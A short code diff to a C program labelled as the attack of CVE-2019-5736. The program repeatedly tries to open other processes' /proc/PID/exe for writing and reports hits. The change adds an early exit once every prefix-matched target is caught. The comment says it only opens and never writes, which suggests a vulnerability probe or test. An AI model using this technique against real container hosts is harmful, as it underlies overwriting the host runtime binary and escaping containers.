@@ -2,7 +2,7 @@
  * The attack of CVE-2019-5736: takes an O_PATH descriptor of every /proc/PID/exe it sees, and keeps trying to open those
  * for writing, which the kernel grants as soon as nobody executes the file any more (ETXTBSY before). Only opens;
  * nothing is written. Ends when /tmp/stop exists or after the number of rounds given.
- * With a second argument it goes only for files whose path begins with that.
+ * With a second argument it goes only for files whose path begins with that, and ends when it has them all.
  * Prints `HIT <target>` for each executable that it could open for writing, then how many it has seen.
  */
 #define _GNU_SOURCE
@@ -76,8 +76,13 @@ int main(int argc, char **argv)
 		}
 		if (proc)
 			closedir(proc);
-		for (int i = 0; i < held_count; i++)
+		int open_prey = 0;
+		for (int i = 0; i < held_count; i++) {
 			attempt(&held[i]);
+			open_prey += !held[i].hit;
+		}
+		if (argc > 2 && held_count > 0 && open_prey == 0)
+			break;
 	}
 	printf("seen %d\n", held_count);
 	return 0;
